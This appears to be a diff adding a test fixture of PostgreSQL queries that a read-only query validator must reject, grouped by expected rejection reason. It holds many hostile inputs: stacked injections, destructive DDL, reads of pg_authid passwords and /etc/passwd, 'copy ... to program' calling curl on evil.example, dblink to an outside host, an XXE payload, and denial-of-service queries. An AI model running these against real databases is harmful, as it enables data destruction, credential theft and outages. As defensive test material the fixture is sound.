@@ -1,0 +1,1506 @@
+-- expect: empty
+
+;
+
+-- nothing
+
+/* nothing */ ;;
+
+-- expect: syntax
+
+select * from
+
+selec 1
+
+select 1 from from
+
+select 'unclosed
+
+select "unclosed
+
+select 1 /* unclosed
+
+select $$unclosed
+
+drop
+
+select * from orders where
+
+select 999999!
+
+select U&'\00G0'
+
+select (1
+
+select 1)
+
+select 1) q; drop table orders; select * from (select 1
+
+select * from orders limit 5, 10
+
+-- expect: many_statements
+
+select 1; select 2
+
+select 1; drop table orders
+
+select 1;delete from orders
+
+select 1; -- x
+drop table orders;
+
+select 1 /* ; */ ; update orders set total = 0
+
+select ';'; commit; drop table orders
+
+begin; select 1; commit
+
+begin; drop table orders
+
+select 1;; select
+
+commit; drop table orders; begin
+
+select $$;$$; select pg_sleep(5)
+
+select E'\''; drop table orders; --'
+
+select '\'; drop table orders; --'
+
+select 1; set default_transaction_read_only = off
+
+rollback; delete from orders
+
+-- expect: data_change
+
+insert into orders values (1)
+
+insert into orders select * from orders
+
+insert into orders default values
+
+insert into orders values (1) on conflict do nothing
+
+insert into orders values (1) returning *
+
+INSERT INTO public.orders (id) VALUES (1);
+
+update orders set total = 0
+
+update orders set total = 0 where id = 1 returning *
+
+delete from orders
+
+DeLeTe FrOm orders where true
+
+delete from orders using customers where true returning *
+
+/* select */ delete from orders
+
+with x as (select 1) delete from orders
+
+with x as (select 1) update orders set total = 1
+
+with x as (select 1) insert into orders select * from x
+
+merge into orders o using customers c on o.id = c.id when matched then delete
+
+with d as (delete from orders returning *) select * from d
+
+with d as (insert into orders values (1) returning id) select * from d
+
+with u as (update orders set total = 0 returning *) select count(*) from u
+
+with recursive d as (delete from orders returning *) select * from d
+
+select * from (with d as (delete from orders returning *) select * from d) q
+
+select (with d as (delete from orders returning 1) select 1)
+
+with a as (with b as (delete from orders returning *) select * from b) select * from a
+
+with a as materialized (delete from orders returning *) select 1
+
+select exists (with d as (update orders set total = 1 returning *) select 1 from d)
+
+with a as (select 1), b as (insert into orders select 1 returning 1) select * from a
+
+select 1 union all (with d as (delete from orders returning 1) select 1)
+
+-- expect: not_select
+
+drop table orders
+
+drop table if exists orders cascade
+
+drop database shop
+
+drop schema public cascade
+
+drop function f()
+
+drop role admin
+
+drop owned by admin
+
+truncate orders
+
+truncate table orders, customers restart identity cascade
+
+create table x (a int)
+
+create table x as select * from orders
+
+create temp table x as select 1
+
+create temporary view v as select 1
+
+create view v as select * from orders
+
+create or replace view v as select 1
+
+create materialized view v as select 1
+
+create index on orders (id)
+
+create function f() returns int language sql as 'select 1'
+
+create or replace function f() returns void language plpgsql as $$ begin delete from orders; end $$
+
+create procedure p() language sql as 'delete from orders'
+
+create trigger t before insert on orders execute function f()
+
+create rule r as on select to orders do instead nothing
+
+create schema s
+
+create database d
+
+create role evil superuser
+
+create user evil password 'x'
+
+create extension dblink
+
+create server s foreign data wrapper postgres_fdw
+
+create foreign table f (a int) server s
+
+create user mapping for public server s
+
+create type t as (a int)
+
+create domain d as int
+
+create sequence s
+
+create aggregate a (int) (sfunc = int4pl, stype = int)
+
+create operator === (leftarg = int, rightarg = int, procedure = int4eq)
+
+create cast (int as text) with function f(int)
+
+create collation c from "C"
+
+create policy p on orders
+
+create publication p for all tables
+
+create subscription s connection 'host=x' publication p
+
+create event trigger e on ddl_command_start execute function f()
+
+create statistics s on id, total from orders
+
+create tablespace t location '/tmp'
+
+create language plperl
+
+create text search configuration c (copy = english)
+
+alter table orders add column x int
+
+alter table orders owner to evil
+
+alter table orders disable row level security
+
+alter role postgres with password 'x'
+
+alter user postgres superuser
+
+alter system set work_mem = '1GB'
+
+alter database shop set work_mem = '1GB'
+
+alter default privileges grant all on tables to public
+
+alter function f() security definer
+
+alter sequence s restart
+
+alter schema public rename to x
+
+grant all on orders to public
+
+grant admin to evil
+
+revoke all on orders from reader
+
+comment on table orders is 'x'
+
+security label on table orders is 'x'
+
+copy orders to stdout
+
+copy orders to '/tmp/x'
+
+copy orders from '/etc/passwd'
+
+copy orders from program 'id'
+
+copy (select * from orders) to '/tmp/x'
+
+copy (select 1) to program 'curl evil.example'
+
+copy (delete from orders returning *) to stdout
+
+do $$ begin delete from orders; end $$
+
+do language plpgsql 'begin perform pg_sleep(10); end'
+
+call p()
+
+call public.p(1, 2)
+
+set work_mem = '2GB'
+
+set session authorization postgres
+
+set role postgres
+
+set local statement_timeout = 0
+
+set transaction read write
+
+set session characteristics as transaction read write
+
+set search_path = evil
+
+set constraints all deferred
+
+set time zone 'UTC'
+
+set names 'utf8'
+
+reset all
+
+reset role
+
+reset session authorization
+
+reset statement_timeout
+
+show all
+
+show data_directory
+
+show server_version
+
+explain select 1
+
+explain analyze select * from orders
+
+explain (analyze, buffers) delete from orders
+
+explain (format json) select 1
+
+explain verbose select * from orders
+
+prepare p as select 1
+
+prepare p (int) as delete from orders where id = $1
+
+execute p
+
+execute p (1)
+
+deallocate all
+
+declare c cursor for select * from orders
+
+declare c cursor with hold for select * from orders
+
+fetch all from c
+
+fetch 10 c
+
+move forward 5 in c
+
+close c
+
+close all
+
+listen x
+
+unlisten *
+
+notify x
+
+notify x, 'payload'
+
+lock table orders
+
+lock orders in access exclusive mode
+
+vacuum
+
+vacuum full orders
+
+vacuum analyze
+
+analyze
+
+analyze orders
+
+cluster
+
+cluster orders using i
+
+reindex table orders
+
+reindex database shop
+
+checkpoint
+
+load 'evil'
+
+discard all
+
+discard plans
+
+begin
+
+begin read write
+
+start transaction
+
+commit
+
+commit and chain
+
+rollback
+
+abort
+
+end
+
+savepoint s
+
+release savepoint s
+
+rollback to savepoint s
+
+prepare transaction 'x'
+
+commit prepared 'x'
+
+rollback prepared 'x'
+
+refresh materialized view v
+
+refresh materialized view concurrently v
+
+import foreign schema s from server x into public
+
+reassign owned by a to b
+
+-- expect: into
+
+select * into x from orders
+
+select 1 into temp x
+
+select id into unlogged x from orders
+
+select * into table x from orders
+
+with a as (select 1) select * into x from a
+
+select 1 into x union select 2
+
+-- expect: locking
+
+select * from orders for update
+
+select * from orders for no key update
+
+select * from orders for share
+
+select * from orders for key share
+
+select * from orders for update nowait
+
+select * from orders for update of orders skip locked
+
+select * from (select * from orders for update) q
+
+with a as (select * from orders for share) select * from a
+
+select (select id from orders limit 1 for update)
+
+select * from customers where id in (select customer_id from orders for update)
+
+(select id from orders for update)
+
+select * from orders for share for update
+
+-- expect: parameter
+
+select $1
+
+select * from orders where id = $1
+
+select * from orders limit $1
+
+select $1::regclass
+
+-- expect: catalog
+
+select * from pg_class
+
+select * from pg_catalog.pg_class
+
+select * from PG_CATALOG.PG_CLASS
+
+select * from "pg_class"
+
+select * from "pg_catalog"."pg_tables"
+
+select * from U&"\0070g_class"
+
+select * from U&"pg!005fshadow" uescape '!'
+
+select * from pg_user
+
+select * from pg_shadow
+
+select * from pg_authid
+
+select rolname, rolpassword from pg_authid
+
+select * from pg_roles
+
+select * from pg_settings
+
+select * from pg_stat_activity
+
+select query from pg_stat_activity where pid <> 1
+
+select * from pg_stat_statements
+
+select * from pg_stat_ssl
+
+select * from pg_database
+
+select * from pg_tables
+
+select * from pg_views
+
+select * from pg_proc
+
+select * from pg_namespace
+
+select * from pg_attribute
+
+select * from pg_statistic
+
+select * from pg_stats
+
+select * from pg_locks
+
+select * from pg_file_settings
+
+select * from pg_hba_file_rules
+
+select * from pg_largeobject
+
+select * from pg_user_mappings
+
+select * from pg_foreign_server
+
+select * from pg_extension
+
+select * from pg_available_extensions
+
+select * from pg_config
+
+select * from pg_cursors
+
+select * from pg_prepared_statements
+
+select * from pg_timezone_names
+
+select * from pg_toast.pg_toast_1262
+
+select * from pg_temp.x
+
+select * from pg_temp_3.x
+
+select * from information_schema.tables
+
+select * from information_schema.columns
+
+select * from INFORMATION_SCHEMA.TABLES
+
+select * from "information_schema"."tables"
+
+select table_name from information_schema.tables union select name from customers
+
+table pg_class
+
+table pg_catalog.pg_authid
+
+select * from orders, pg_class
+
+select * from orders join pg_user on true
+
+select * from only pg_class
+
+select * from pg_class tablesample system (1)
+
+select (select count(*) from pg_class)
+
+select * from orders where exists (select 1 from pg_authid)
+
+with x as (select * from pg_authid) select * from x
+
+with x as (select * from pg_authid), pg_authid as (select 1) select * from x
+
+with pg_user as (select * from pg_user) select * from pg_user
+
+with a as (with pg_user as (select 1 as x) select * from pg_user) select * from a, pg_user
+
+with pg_class as (select 1) select * from pg_catalog.pg_class
+
+select * from (with pg_class as (select 1) select 1) q, pg_class
+
+select 1 union select oid from pg_class
+
+select * from lateral (select * from pg_database) x
+
+select array(select relname from pg_class)
+
+select id from orders order by (select count(*) from pg_class)
+
+select count(*) filter (where exists (select 1 from pg_user)) from orders
+
+select sum(total) over (partition by (select 1 from pg_class limit 1)) from orders
+
+select id from orders limit (select count(*) from pg_class)
+
+select case when (select usesuper from pg_user limit 1) then 1 end
+
+values ((select rolpassword from pg_authid limit 1))
+
+select * from (values ((select 1 from pg_class limit 1))) v
+
+select * from generate_series(1, (select count(*)::int from pg_class))
+
+select * from orders join customers on (select true from pg_shadow limit 1)
+
+select id from orders group by id, (select 1 from pg_class limit 1)
+
+select id from orders group by id having (select true from pg_class limit 1)
+
+-- expect: column
+
+select ctid from orders
+
+select ctid, * from orders
+
+select o.ctid from orders o
+
+select orders.xmin from orders
+
+select xmax from orders
+
+select tableoid from orders
+
+select cmin, cmax from orders
+
+select * from orders where ctid = '(0,1)'
+
+select id from orders order by ctid
+
+select id from orders o order by o.xmin
+
+select o.tableoid from orders o join customers c on c.id = o.customer_id
+
+select (select xmin from orders limit 1)
+
+select min(id) as xmin, (select xmin) from orders
+
+select "ctid" from orders
+
+select ctid as ctid from orders order by ctid
+
+select j.ctid from (orders o join customers c on c.id = o.customer_id) j
+
+select x.xmin from (select 1 as a) y, orders x
+
+-- expect: type
+
+select 'pg_class'::regclass
+
+select 'pg_authid'::regclass::oid
+
+select tableoid_::regclass from (select 1 as tableoid_) q
+
+select cast('pg_authid' as regclass)
+
+select regclass 'pg_authid'
+
+select 'now'::regproc
+
+select 'pg_sleep'::regproc
+
+select 'pg_sleep(double precision)'::regprocedure
+
+select '='::regoper
+
+select '+(int,int)'::regoperator
+
+select 'postgres'::regrole
+
+select 'public'::regnamespace
+
+select 'int'::regtype
+
+select 'english'::regconfig
+
+select 'simple'::regdictionary
+
+select '"C"'::regcollation
+
+select 1259::regclass
+
+select array[1259]::regclass[]
+
+select 1::oid
+
+select '1'::oid::text
+
+select cast(1259 as oid)
+
+select 'pg_class'::pg_catalog.regclass
+
+select '{pg_class}'::regclass[]
+
+select '(0,1)'::tid
+
+select '1'::xid
+
+select '1'::xid8
+
+select '1'::cid
+
+select '<a/>'::xml
+
+select xml '<a/>'
+
+select null::orders
+
+select null::public.orders
+
+select '(1)'::orders
+
+select 'x'::myschema.mytype
+
+select 'x'::mytype
+
+select 'x'::information_schema.sql_identifier
+
+select '0/0'::pg_lsn
+
+select 'x'::pg_node_tree
+
+select 'x'::pg_catalog.pg_snapshot
+
+select null::record
+
+select 'x'::cstring
+
+select 'x'::"any"
+
+select 'x'::aclitem
+
+select 'x'::refcursor
+
+select null::trigger
+
+select * from json_to_recordset('[]') as x(a regclass)
+
+select * from json_to_record('{}') as x(a public.mytype)
+
+select orders.id::orders%type from orders
+
+-- expect: operator
+
+select 1 operator(myschema.+) 2
+
+select 1 operator(public.=) 1
+
+select 1 operator(pg_temp.=) 1
+
+select 1 ==> 2
+
+select 1 === 1
+
+select @#@ 5
+
+select 1 where 1 operator(evil.=) any (array[1])
+
+select 1 operator(evil.=) any (select 1)
+
+select id from orders order by id using operator(evil.<)
+
+select id from orders order by id using @@@>
+
+-- expect: function
+
+select pg_sleep(10)
+
+select PG_SLEEP(10)
+
+select "pg_sleep"(10)
+
+select "PG_SLEEP"(10)
+
+select U&"\0070g_sleep"(1)
+
+select U&"pg!005fsleep" uescape '!' (1)
+
+select pg_catalog.pg_sleep(10)
+
+select pg_catalog . pg_sleep ( 10 )
+
+select "pg_catalog"."pg_sleep"(10)
+
+select pg_sleep /* x */ (1)
+
+select pg_sleep--
+(1)
+
+select pg_sleep_for('5 minutes')
+
+select pg_sleep_until('tomorrow')
+
+select * from pg_sleep(10)
+
+select * from orders where pg_sleep(1) is null
+
+select id from orders order by pg_sleep(1)
+
+select case when true then pg_sleep(10) end
+
+select coalesce(pg_sleep(1)::text, '')
+
+with x as (select pg_sleep(10)) select * from x
+
+select count(*) filter (where pg_sleep(1) is null) from orders
+
+select sum(1) over (order by pg_sleep(1)) from orders
+
+select 1 limit length(pg_sleep(1)::text)
+
+select (select pg_sleep(5))
+
+select array[pg_sleep(1)]
+
+select * from orders join customers on pg_sleep(1) is null
+
+select lateral_.x from orders, lateral (select pg_sleep(1) as x) lateral_
+
+values (pg_sleep(1))
+
+select set_config('statement_timeout', '0', false)
+
+select set_config('default_transaction_read_only', 'off', false)
+
+select pg_catalog.set_config('role', 'postgres', true)
+
+select current_setting('data_directory')
+
+select current_setting('is_superuser', true)
+
+select pg_read_file('/etc/passwd')
+
+select pg_read_binary_file('/etc/passwd')
+
+select pg_read_file('postgresql.conf', 0, 1000)
+
+select pg_ls_dir('/')
+
+select pg_ls_logdir()
+
+select pg_ls_waldir()
+
+select pg_stat_file('/etc/passwd')
+
+select pg_file_write('x', 'y', false)
+
+select pg_current_logfile()
+
+select lo_import('/etc/passwd')
+
+select lo_export(1, '/tmp/x')
+
+select lo_create(0)
+
+select lo_creat(-1)
+
+select lo_from_bytea(0, 'x')
+
+select lo_get(1)
+
+select lo_put(1, 0, 'x')
+
+select lo_unlink(1)
+
+select lo_open(1, 131072)
+
+select loread(0, 100)
+
+select lowrite(0, 'x')
+
+select dblink('host=evil', 'select 1')
+
+select * from dblink('host=evil', 'select 1') as t(a int)
+
+select dblink_connect('host=evil')
+
+select dblink_exec('drop table orders')
+
+select pg_advisory_lock(1)
+
+select pg_try_advisory_lock(1)
+
+select pg_advisory_xact_lock(1)
+
+select pg_advisory_unlock_all()
+
+select pg_notify('x', 'y')
+
+select pg_terminate_backend(1)
+
+select pg_cancel_backend(1)
+
+select pg_reload_conf()
+
+select pg_rotate_logfile()
+
+select pg_switch_wal()
+
+select pg_create_restore_point('x')
+
+select pg_promote()
+
+select pg_export_snapshot()
+
+select pg_logical_emit_message(true, 'a', 'b')
+
+select pg_create_logical_replication_slot('a', 'b')
+
+select pg_backend_pid()
+
+select pg_stat_get_activity(null)
+
+select pg_stat_reset()
+
+select pg_stat_clear_snapshot()
+
+select pg_relation_size('orders')
+
+select pg_total_relation_size('orders')
+
+select pg_database_size('postgres')
+
+select pg_size_pretty(100::bigint)
+
+select pg_get_viewdef('v')
+
+select pg_get_functiondef(1)
+
+select pg_get_userbyid(10)
+
+select pg_has_role('postgres', 'usage')
+
+select pg_typeof(1)
+
+select pg_column_size(1)
+
+select pg_table_is_visible(1)
+
+select pg_get_keywords()
+
+select * from pg_show_all_settings()
+
+select * from pg_get_catalog_foreign_keys()
+
+select pg_my_temp_schema()
+
+select pg_conf_load_time()
+
+select pg_postmaster_start_time()
+
+select pg_is_in_recovery()
+
+select pg_current_wal_lsn()
+
+select pg_current_xact_id()
+
+select pg_client_encoding()
+
+select has_table_privilege('orders', 'select')
+
+select has_schema_privilege('public', 'create')
+
+select has_database_privilege('x', 'connect')
+
+select query_to_xml('select * from pg_authid', true, true, '')
+
+select table_to_xml('pg_authid', true, true, '')
+
+select table_to_xmlschema('orders', true, true, '')
+
+select cursor_to_xml('c', 1, true, true, '')
+
+select schema_to_xml('public', true, true, '')
+
+select database_to_xml(true, true, '')
+
+select query_to_xml_and_xmlschema('delete from orders', true, true, '')
+
+select xmlagg(x) from orders
+
+select xpath('/a', 'b')
+
+select xpath_exists('/a', 'b')
+
+select xml_is_well_formed('<a/>')
+
+select xmlcomment('x')
+
+select txid_current()
+
+select txid_current_snapshot()
+
+select txid_status(1)
+
+select nextval('s')
+
+select currval('s')
+
+select lastval()
+
+select setval('s', 1)
+
+select version()
+
+select current_database()
+
+select current_query()
+
+select current_schemas(true)
+
+select getpgusername()
+
+select inet_server_addr()
+
+select inet_server_port()
+
+select inet_client_addr()
+
+select inet_client_port()
+
+select current_user
+
+select session_user
+
+select user
+
+select current_role
+
+select system_user
+
+select current_catalog
+
+select current_schema
+
+select current_schema()
+
+select CURRENT_USER
+
+select * from current_user
+
+select name from customers where name = session_user
+
+select coalesce(current_user, 'x')
+
+select setseed(0.5)
+
+select to_regclass('pg_authid')
+
+select to_regproc('pg_sleep')
+
+select to_regtype('int')
+
+select to_regrole('postgres')
+
+select to_regnamespace('public')
+
+select regclass('pg_authid')
+
+select oid('1')
+
+select obj_description(1, 'pg_class')
+
+select col_description(1, 1)
+
+select shobj_description(1, 'pg_database')
+
+select format_type(23, null)
+
+select ts_stat('select vector from documents')
+
+select * from ts_stat('delete from documents')
+
+select ts_rewrite('a'::tsquery, 'select t, s from aliases')
+
+select ts_debug('english', 'x')
+
+select * from ts_token_type('default')
+
+select ts_lexize('english_stem', 'x')
+
+select get_current_ts_config()
+
+select row_security_active('orders')
+
+select amvalidate(1)
+
+select brin_summarize_new_values('i')
+
+select gin_clean_pending_list('i')
+
+select binary_upgrade_set_next_pg_type_oid(1)
+
+select in_range(1, 2, 3, true, true)
+
+select satisfies_hash_partition(1, 2, 0, 1)
+
+select makeaclitem(1, 1, 'SELECT', false)
+
+select acldefault('r', 10)
+
+select aclexplode(null)
+
+select querytree('x')
+
+select getdatabaseencoding()
+
+select int4pl(1, 2)
+
+select texteq('a', 'b')
+
+select textin('x')
+
+select array_in('{1}', 23, -1)
+
+select int4in('1')
+
+select byteaout('x')
+
+select record_out(o) from orders o
+
+select my_function(1)
+
+select public.my_function(1)
+
+select public.lower('x')
+
+select evil.count(*) from orders
+
+select myschema.sum(total) from orders
+
+select pg_temp.f()
+
+select information_schema._pg_expandarray(array[1])
+
+select db.public.f(1)
+
+select delete_all_orders()
+
+select * from user_function()
+
+select * from rows from (generate_series(1, 2), my_function(1))
+
+select my_agg(total) over (order by id) from orders
+
+select my_agg(total) within group (order by total) from orders
+
+select crosstab('select 1')
+
+select * from crosstab('select 1, 2, 3') as t(a int, b int)
+
+select connectby('x', 'a', 'b', 'c', 0)
+
+select query('delete from orders')
+
+select plpython('x')
+
+select http_get('http://evil.example')
+
+select postgres_fdw_get_connections()
+
+select (orders.total).pg_sleep from orders
+
+select (total).pg_sleep from orders
+
+select (10::float8).pg_sleep
+
+select (1).my_function
+
+select ('pg_authid'::text).regclass
+
+select ('work_mem').current_setting
+
+select (now()).my_function
+
+select (name || 'x').lo_import from customers
+
+select o.pg_column_size from orders o
+
+select public.o.pg_typeof from orders o
+
+select g.pg_sleep from random() g
+
+select (o).pg_typeof from orders o
+
+select (name).current_setting from customers
+
+select name.nextval from (select 's'::text) name
+
+select c.to_regclass from unnest(array['pg_authid']) c
+
+select (select name from customers limit 1).my_function from customers order by (name).dblink
+
+select (x).to_regclass from (select 'pg_authid'::text as x) q
+
+select * from orders tablesample my_method (1)
+
+select * from orders tablesample public.system (1)
+
+select collation for (name) from customers
+
+select ifnull(a, 1) from t
+
+select group_concat(name) from customers
+
+-- expect: node
+
+select xmlelement(name a, 'b')
+
+select xmlforest(1 as a)
+
+select xmlparse(document '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>')
+
+select xmlparse(content '<a/>')
+
+select xmlserialize(content '<a/>' as text)
+
+select xmlpi(name php, 'x')
+
+select xmlroot('<a/>', version '1.0')
+
+select xmlconcat('<a/>', '<b/>')
+
+select '<a/>' is document
+
+select * from xmltable('/a' passing '<a/>' columns b text path 'c')
+
+values (default)
+
+select name collate myschema.mycollation from customers
+
+-- expect: relation
+
+select * from other.public.orders
+
+select * from postgres.pg_catalog.pg_class
+
+-- expect: newer_syntax
+
+select json_object('a': 1)
+
+select json_object('a' value 1)
+
+select json_array(1, 2)
+
+select json_arrayagg(id) from orders
+
+select json_arrayagg(id order by id) from orders
+
+select json_objectagg(id: name) from products
+
+select '{}' is json
+
+select payload is not json object from events
+
+select json_value(payload, '$.a') from events
+
+select json_value(payload, '$.a' returning int) from events
+
+select json_query(payload, '$.a' with wrapper) from events
+
+select json_exists(payload, '$.a' error on error) from events
+
+select * from json_table('[]', '$[*]' columns (a int path '$.a')) as t
+
+select * from (select 1)
+
+select * from (values (1))
+
+select 1_000_000
+
+select 0x1F
+
+select lag(total) ignore nulls over (order by id) from orders
+
+-- expect: too_costly
+
+select repeat('x', 1000000000)
+
+select repeat('x', 1e9::int)
+
+select repeat('x', 10^9)
+
+select repeat('x', (10^9)::int)
+
+select repeat('x', 1000 * 1000 * 1000)
+
+select repeat('x', '1000000000')
+
+select repeat('x', cast('1000000000' as int))
+
+select repeat('x', (select 1000000000))
+
+select repeat('x', (values (1000000000)))
+
+select repeat('x', greatest(1, 1000000000))
+
+select repeat('x', coalesce(null, 1000000000))
+
+select repeat('x', case when true then 1000000000 else 1 end)
+
+select repeat('x', abs(-1000000000))
+
+select repeat('x', -(-1000000000))
+
+select repeat('x', abs(-/* 1 */(1000000000)))
+
+select repeat('x', abs(- -- 1
+1000000000))
+
+select repeat('x', 0 - (-1000000000))
+
+select repeat('x', -1 * -1000000000)
+
+select repeat('x', 2147483647)
+
+select repeat('x', 1 << 30)
+
+select repeat('x', power(10, 9)::int)
+
+select repeat('x', factorial(12)::int)
+
+select repeat('x', exp(20)::int)
+
+select repeat('x', extract(epoch from now())::int)
+
+select repeat(repeat('x', 10000), 10000)
+
+select repeat(repeat(repeat('x', 1000), 1000), 1000)
+
+select repeat('x', length(repeat('x', 100000)) * 100)
+
+select repeat('x', n) from (select 1000000000 as n) q
+
+select repeat('x', n) from (values (1000000000)) v(n)
+
+with b as (select 1000000000 as n) select repeat('x', n) from b
+
+select repeat('x', n) from generate_series(100000000, 100000001) n
+
+select repeat('x', id * 1000000) from orders
+
+select pg_catalog.repeat('x', 1000000000)
+
+select length(repeat('x', 1000000000))
+
+select id from orders where repeat('x', 1000000000) is null
+
+select id from orders order by repeat(notes, 1000000)
+
+select lpad('x', 1000000000)
+
+select rpad('x', 1000000000, 'y')
+
+select lpad('x', (10^9)::int, 'y')
+
+select lpad('x', id * 1000000) from orders
+
+select array_fill(1, array[100000000])
+
+select array_fill(1, array[10000, 10000])
+
+select array_fill(0, '{100000000}'::int[])
+
+select array_fill(0, '{10000,10000}')
+
+select array_fill(repeat('x', 10000), array[10000])
+
+select array_length(array_fill(1, array[1000000000]), 1)
+
+select format('%1000000000s', 'x')
+
+select format('%-1000000000s', 'x')
+
+select format('%1$1000000000s', 'x')
+
+select format('%*s', 1000000000, 'x')
+
+select format('%' || 1000000000 || 's', 'x')
+
+select format(notes, id) from orders
+
+select 'x'::char(10000000)
+
+select 1::bit(80000000)
+
+select cast('x' as character(10485760))
+
+select replace(repeat('a', 100000), 'a', repeat('b', 100000))
+
+select replace(replace(replace(replace('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa', 'a', 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'), 'a', 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'), 'a', 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'), 'a', 'bb')
+
+select regexp_replace(repeat('a', 100000), 'a', repeat('b', 1000), 'g')
+
+select array_to_string(array_fill('x'::text, array[10000]), repeat('x', 100000))
+
+select string_agg(repeat('x', 100000), '') from orders
+
+select string_agg(repeat('x', 1000), '') from generate_series(1, 100000)
+
+select array_agg(repeat('x', 200000)) from orders
+
+select array(select repeat('x', 200000) from orders)
+
+with a as (select repeat('x', 200000) s), b as (select s || s || s || s || s || s || s || s as s from a), c as (select s || s || s || s || s || s || s || s as s from b), d as (select s || s || s || s || s || s || s || s as s from c) select length(s) from d
+
+with a as (select repeat('x', 200000) s), b as (select concat(s, s, s, s, s, s, s, s) as s from a), c as (select concat(s, s, s, s, s, s, s, s) as s from b), d as (select concat(s, s, s, s, s, s, s, s) as s from c) select length(s) from d
+
+with recursive r(s, n) as (select 'x', 1 union all select s || s, n + 1 from r where n < 40) select length(s) from r
+
+with recursive r(s, n) as (select 'x', 1 union all select concat(s, s), n + 1 from r where n < 40) select length(s) from r
+
+with recursive r(a, n) as (select array[1], 1 union all select a || a, n + 1 from r where n < 40) select n from r
+
+with recursive t(n) as (select 1 union all select n + 1 from t) select count(*) from t
+
+with recursive t(n) as (select 1 union all select n + 1 from t) select * from t
+
+with recursive t as (select 1 union all select 1 from t) select * from t
+
+with recursive t(n) as (select 1 union all select n + 1 from t where true) select * from t
+
+with recursive t(n) as (select 1 union all select n + 1 from t, orders) select * from t
+
+with recursive t(n) as (select 1 union all select n from t, (values (1), (2)) v) select * from t
+
+with recursive t(n) as (select 1 union all select n + 1 from t) select n from t order by n limit 10
+
+with recursive t(n) as (select 1 union all select n + 1 from t) select max(n) from t limit 10
+
+with recursive t(n) as (select 1 union select n + 1 from t) select n from t where n < 0 limit 1
+
+select * from generate_series(1, 1000000000)
+
+select generate_series(1, 10000000)
+
+select count(*) from generate_series(1, 10^9::int)
+
+select count(*) from generate_series(1, 1000000000, 2)
+
+select count(*) from generate_series(1000000000, 1, -1)
+
+select count(*) from generate_series(0, 1, 0.00000001)
+
+select count(*) from generate_series(1, 5, 0)
+
+select count(*) from generate_series('2000-01-01'::timestamp, '2024-01-01'::timestamp, '1 second')
+
+select count(*) from generate_series('0001-01-01'::date, '9999-01-01'::date, '1 day')
+
+select count(*) from generate_series(now(), now() + interval '1 year', '1 microsecond')
+
+select count(*) from generate_series(date '2024-01-01', date '2025-01-01', interval '0 days')
+
+select count(*) from generate_series(1, (select 1000000000))
+
+select count(*) from generate_series(1, 100000) a, generate_series(1, 100000) b
+
+select count(*) from generate_series(1, 100000) a cross join generate_series(1, 100000) b
+
+select count(*) from generate_series(1, 100000) a join generate_series(1, 100000) b on true
+
+select count(*) from generate_series(1, 100000) a join generate_series(1, 100000) b on a < b
+
+select count(*) from (select generate_series(1, 100000)) a, (select generate_series(1, 100000)) b
+
+with a as (select generate_series(1, 100000) n) select count(*) from a x, a y
+
+select count(*) from orders a, orders b, orders c, orders d
+
+select count(*) from orders a cross join orders b cross join orders c cross join orders d cross join orders e
+
+select power(10, 1000000)
+
+select 10 ^ 1000000
+
+select 10::numeric ^ 100000::numeric
+
+select pow(2::numeric, 100000)
+
+select factorial(100000)
+
+select factorial(30000)
+
+select 1e100000
+
+select 1e-100000
+
+select name ~ '(a*)*(b*)*\1' from customers
+
+select regexp_match(name, '((a+)+)+\1') from customers
+
+select row(row(row(row(row(row(row(row(row(row(row(row(row(row(row(row(row(row(row(row(row(row(row(row('"')::text)::text)::text)::text)::text)::text)::text)::text)::text)::text)::text)::text)::text)::text)::text)::text)::text)::text)::text)::text)::text)::text)::text)::text
+
+select polygon(100000000, circle '<(0,0),1>')
+
+select string_agg(repeat('x', n), '') from (select 4000000 as n) q, orders
+
+select repeat('x', id * 1000000 / total) from orders, generate_series(1, 10000000)
+
+select repeat('x', id * 1000000000 / quantity) from order_items
